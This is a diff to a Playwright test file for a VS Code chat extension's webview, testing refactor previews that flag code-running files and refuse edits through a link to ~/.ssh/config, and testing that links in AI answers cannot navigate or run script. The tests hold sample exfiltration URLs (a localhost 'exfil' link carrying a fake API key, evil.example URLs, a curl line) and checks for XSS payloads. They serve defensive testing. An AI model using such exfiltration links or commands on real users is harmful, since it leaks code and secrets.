@@ -205,17 +205,22 @@ void describe('chat webview', () => {
       files: [
         { uri: 'file:///work/app/src/billing.ts', label: 'billing.ts', description: 'src/billing.ts', edits: 3 },
         { uri: 'file:///work/app/src/invoice.ts', label: 'invoice.ts', description: 'src/invoice.ts', edits: 1 },
+        { uri: 'file:///work/app/package.json', label: 'package.json', description: 'package.json', edits: 1, runsCode: 'npm runs its scripts' },
       ],
       errors: ['src/legacy.ts: the range 400-410 is past the end of the file (120 lines)'],
+      refused: [{ label: 'linked.ts', description: 'src/linked.ts', edits: 2, reason: 'it is a link to /home/me/.ssh/config, outside the workspace folders' }],
       outcome: 'previewing' as const,
     };
     const turn = answerTurn('a1', 'u1', { kind: 'refactor', text: 'Renamed `total` everywhere.', state: 'done', answer: cloudAnswer, refactor });
     await hostPost(page, { type: 'done', id: 'a1', turn });
     const box = page.locator('[data-id="a1"] .refactor');
-    assert.match((await box.locator('.refactor-title').textContent()) ?? '', /Proposed 4 edits in 2 files/);
-    assert.deepEqual(await box.locator('.refactor-files .file-link').allTextContents(), ['billing.ts', 'invoice.ts']);
+    assert.match((await box.locator('.refactor-title').textContent()) ?? '', /Proposed 5 edits in 3 files/);
+    assert.deepEqual(await box.locator('.refactor-files .file-link').allTextContents(), ['billing.ts', 'invoice.ts', 'package.json']);
+    assert.match((await box.locator('.refactor-files li', { hasText: 'package.json' }).textContent()) ?? '', /runs code: npm runs its scripts\. Left unticked in the preview/);
     assert.match((await box.locator('.refactor-errors').textContent()) ?? '', /past the end of the file/);
-    assert.match((await box.locator('.refactor-outcome').textContent()) ?? '', /Refactor Preview.*Nothing is written before you apply/);
+    assert.match((await box.locator('.refactor-refused-title').textContent()) ?? '', /Refused 2 edits to files Tandem does not edit/);
+    assert.match((await box.locator('.refactor-refused').textContent()) ?? '', /src\/linked\.ts \(2 edits\): it is a link to \/home\/me\/\.ssh\/config, outside the workspace folders/);
+    assert.match((await box.locator('.refactor-outcome').textContent()) ?? '', /Refactor Preview, then press Apply: they are ticked, except edits to files that run code\. Nothing is written before you apply/);
     await screenshot(page, 'chat-refactor');
     await box.locator('.file-link', { hasText: 'invoice.ts' }).click();
     assert.equal((await waitPosted<{ uri: string }>(page, 'openFile')).uri, 'file:///work/app/src/invoice.ts');
@@ -223,6 +228,69 @@ void describe('chat webview', () => {
     await page.locator('[data-id="a1"] .refactor-outcome', { hasText: 'Discarded: no file was changed.' }).waitFor();
     await page.locator('[data-id="a1"] button', { hasText: 'Review edits again' }).click();
     assert.equal((await waitPosted<{ id: string }>(page, 'applyEdits')).id, 'a1');
+    // After Apply the outcome is what the documents hold, file by file.
+    const applied = [
+      { uri: refactor.files[0]!.uri, label: 'billing.ts', applied: 3, of: 3, saved: false },
+      { uri: refactor.files[1]!.uri, label: 'invoice.ts', applied: 1, of: 1, saved: false },
+      { uri: refactor.files[2]!.uri, label: 'package.json', applied: 0, of: 1, saved: true, runsCode: 'npm runs its scripts' },
+    ];
+    await hostPost(page, { type: 'turn', turn: { ...turn, refactor: { ...refactor, outcome: 'applied', applied } } });
+    const outcome = page.locator('[data-id="a1"] .refactor-outcome.outcome-applied');
+    await outcome.waitFor();
+    assert.equal(
+      await outcome.textContent(),
+      'Applied 4 edits in 2 files: billing.ts (3), invoice.ts (1). Not applied: package.json (0 of 1, runs code). The changed files are not saved yet; undo with Ctrl+Z / Cmd+Z in each editor.',
+    );
+    await screenshot(page, 'chat-refactor-applied');
+    // A file changed since the edits were made: nothing applied, and "Ask again" instead of reviewing stale edits.
+    await hostPost(page, { type: 'turn', turn: { ...turn, refactor: { ...refactor, outcome: 'stale', message: 'billing.ts changed after these edits were proposed, so they would land in the wrong places. No file was changed; ask again to get edits for the current text.' } } });
+    await page.locator('[data-id="a1"] .refactor-outcome.outcome-stale', { hasText: 'billing.ts changed after these edits were proposed' }).waitFor();
+    assert.equal(await page.locator('[data-id="a1"] button', { hasText: 'Review edits again' }).count(), 0);
+    await page.locator('[data-id="a1"] button', { hasText: 'Ask again' }).click();
+    assert.deepEqual(await waitPosted<{ of: string; prefer: string }>(page, 'retry').then((r) => [r.of, r.prefer]), ['a1', 'cloud']);
+    await page.close();
+  });
+
+  void it('links in answers open only through the extension, which sees the full URL; bare URLs in code or HTML stay text', async () => {
+    const page = await chat();
+    // VS Code's webview host opens every <a href> clicked in a webview (its handleInnerClick); this stands in for it.
+    await page.evaluate(() => {
+      const w = window as unknown as { __hostOpened: string[] };
+      w.__hostOpened = [];
+      window.addEventListener('click', (ev) => {
+        for (const node of ev.composedPath() as HTMLAnchorElement[]) {
+          if (node.tagName === 'A' && node.href) {
+            w.__hostOpened.push(node.href);
+            ev.preventDefault();
+            return;
+          }
+        }
+      });
+    });
+    const exfil = 'http://127.0.0.1:9/exfil?code=const%20apiKey%3D%22sk-live%22';
+    const text = [
+      `See [MDN](https://developer.mozilla.org/en-US/docs/Web) and [the fix](${exfil}), or https://docs.python.org/3/.`,
+      '`https://evil.example/?q=in-code` and <span>https://evil.example/?q=in-html</span> and &lt;a href="https://evil.example/?q=escaped"&gt;',
+      '```\ncurl https://evil.example/?q=in-block\n```',
+    ].join('\n\n');
+    await hostPost(page, { type: 'turn', turn: userTurn('u1', 'how?') });
+    await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text, state: 'done', answer: cloudAnswer }) });
+    const body = page.locator('[data-id="a1"] .answer-body');
+    await body.locator('.code-block').waitFor();
+    assert.deepEqual(await body.locator('.answer-link').allTextContents(), ['MDN', 'the fix', 'https://docs.python.org/3/']);
+    assert.equal(await body.locator('[href]').count(), 0, 'a link in the answer kept its href, so VS Code would open it on click');
+    assert.match((await body.textContent()) ?? '', /q=in-code.*q=in-html.*q=escaped.*q=in-block/s);
+    const fix = body.locator('.answer-link', { hasText: 'the fix' });
+    assert.equal(await fix.getAttribute('title'), exfil);
+    await fix.click();
+    assert.deepEqual(await waitPosted(page, 'openLink'), { type: 'openLink', href: exfil, text: 'the fix' });
+    await body.locator('.answer-link', { hasText: 'MDN' }).focus();
+    await page.keyboard.press('Enter');
+    await page.waitForFunction(() => (window as unknown as { __posted: { type: string; text?: string }[] }).__posted.some((m) => m.type === 'openLink' && m.text === 'MDN'));
+    assert.deepEqual(await page.evaluate(() => (window as unknown as { __hostOpened: string[] }).__hostOpened), []);
+    assert.match(page.url(), /\/chat\.html/);
+    await screenshot(page, 'chat-links');
+    assert.deepEqual(pageErrors(page), []);
     await page.close();
   });
 
@@ -247,8 +315,8 @@ void describe('chat webview', () => {
       await hostPost(page, { type: 'done', id: 'a1', turn: answerTurn('a1', 'u1', { text: payloads, state: 'done', answer: evil }) });
       const thread = page.locator('.thread');
       await page.locator('[data-id="a1"] .code-block').waitFor();
-      // Click every link that is left (none may run script); the one https link would navigate away.
-      for (const link of await thread.locator('a:not([href^="https:"])').all()) await link.click({ force: true }).catch(() => undefined);
+      // Click every link that is left: none may run script (links in answers carry no href at all).
+      for (const link of await thread.locator('a').all()) await link.click({ force: true }).catch(() => undefined);
       await page.locator('[data-id="a1"] .route-badge').hover();
       await page.waitForTimeout(200);
       assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
@@ -259,7 +327,7 @@ void describe('chat webview', () => {
           scripts: root.querySelectorAll('script, iframe, svg circle, object, embed').length,
           handlers: all.filter((el) => Array.from(el.attributes).some((a) => a.name.startsWith('on'))).length,
           jsLinks: all.filter((el) => /^\s*(javascript|data):/i.test(el.getAttribute('href') ?? '')).length,
-          okLink: root.querySelector('a[href="https://example.com/ok"]') !== null,
+          okLink: root.querySelector('a.answer-link[data-href="https://example.com/ok"]:not([href])') !== null,
           codeShown: root.querySelector('code.hljs')?.textContent ?? '',
           reasonShown: root.querySelector('.route-reason')?.textContent ?? '',
         };
